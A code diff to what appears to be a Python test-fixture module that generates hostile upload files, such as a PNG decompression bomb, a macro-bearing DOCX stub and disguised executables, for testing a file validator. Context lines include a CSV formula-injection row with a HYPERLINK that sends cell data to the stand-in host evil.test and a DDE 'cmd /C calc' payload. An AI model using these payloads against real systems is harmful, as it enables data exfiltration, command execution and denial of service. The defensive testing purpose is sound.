@@ -96,6 +96,25 @@ def xlsx_of_junk() -> bytes:
                  ("docProps/app.xml", b"\x00\x01\x02")])
 
 
+def png_bomb() -> bytes:
+    """A PNG whose header claims 50,000 × 50,000 pixels (2.5 billion) in a few dozen bytes."""
+    import struct
+    import zlib
+
+    def chunk(kind, data):
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    header = struct.pack(">IIBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
+            + chunk(b"IEND", b""))
+
+
+def docx_with_macros() -> bytes:
+    return _zip([("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
+                 ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
+                 ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)])
+
+
 def formula_csv() -> bytes:
     return (b"NIP;Nama;Jabatan;Status Kepegawaian;No. HP;Email\n"
             b'198005172005011001;=HYPERLINK("http://evil.test/?x="&A1,"klik");Guru;PNS;+cmd|\' /C calc\'!A0;@SUM(1+1)\n'
@@ -136,6 +155,9 @@ def hostile_files() -> list[Bad]:
         Bad("truncated jpeg", "potong.jpg", jpeg[: len(jpeg) // 2], "image/jpeg"),
         Bad("truncated png", "potong.png", png[: len(png) // 2], "image/png"),
         Bad("gif+js polyglot", "lucu.gif", gif_polyglot(), "image/gif"),
+        Bad("png bomb", "layar.png", png_bomb(), "image/png"),
+        Bad("docx with macros", "laporan.docx", docx_with_macros(),
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
         Bad("exe", "bukti.jpg.exe", EXE, "application/x-msdownload"),
         Bad("exe as jpg", "bukti.jpg", EXE, "image/jpeg"),
         Bad("elf as png", "bukti.png", ELF, "image/png"),
